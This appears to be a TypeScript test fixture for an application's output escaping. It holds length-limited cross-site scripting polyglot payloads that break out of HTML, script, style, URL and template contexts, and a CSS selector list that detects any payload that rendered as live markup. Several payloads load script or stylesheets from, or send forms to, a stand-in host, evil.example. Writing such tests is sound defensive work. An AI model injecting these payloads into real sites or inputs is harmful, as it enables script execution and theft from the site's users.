/** Texts that some reader of markup, script, style, message or address would take for its own. */
export const polyglots = {
  /** 40 characters at most, as the shortest fields take. */
  short: `"'><img src=x onerror=alert(1)>{0}`,
  /** 60 at most. */
  tag: '</title></script><script src=//evil.example/x.js></script>',
  event: '`-alert(1)-` <svg/onload=alert(1)><b>{name}</b> ${1}',
  address: 'javascript:alert(1)//"><a href=data:text/html,x autofocus>',
  /** 80 at most. */
  style: `</style><link rel=stylesheet href=//evil.example/s.css>'-alert(1)-'`,
  /** 120 at most. */
  frame: `--><iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=//evil.example>{count, plural, other {#}}`,
  /** 300 at most, over lines. */
  note: `</textarea></noscript><template><form action=//evil.example><input autofocus onfocus=alert(1)>
<math><mtext><style><!--</style><img title="--><img src=//evil.example/p onerror=alert(1)>">
{{constructor.constructor('alert(1)')()}} <base href=//evil.example> \\u003cscript>`,
} as const

/** What a page would have if one of them had become more than text. */
export const planted = [
  'script:not([src^="/assets/"])',
  'img[src="x"]',
  '[src*="evil"]',
  '[href*="evil"]',
  '[data*="evil"]',
  '[action*="evil"]',
  '[onload], [onerror], [onfocus], [onclick]',
  '[href^="javascript:"], [href^="data:"]',
  'iframe[srcdoc]',
  'base, object, math',
].join(', ')
